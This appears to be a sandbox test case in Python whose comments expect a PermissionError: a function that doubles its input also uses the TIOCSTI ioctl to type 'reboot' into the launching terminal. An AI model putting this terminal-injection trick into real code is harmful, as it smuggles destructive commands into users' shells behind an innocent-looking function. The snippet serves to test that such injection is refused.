# due: runtime_error
# Types into the terminal that the service was started from; that ioctl is refused.
# says: PermissionError
import fcntl
import termios


def f(x):
    for character in b"reboot\n":
        fcntl.ioctl(0, termios.TIOCSTI, bytes([character]))
    return 2 * x
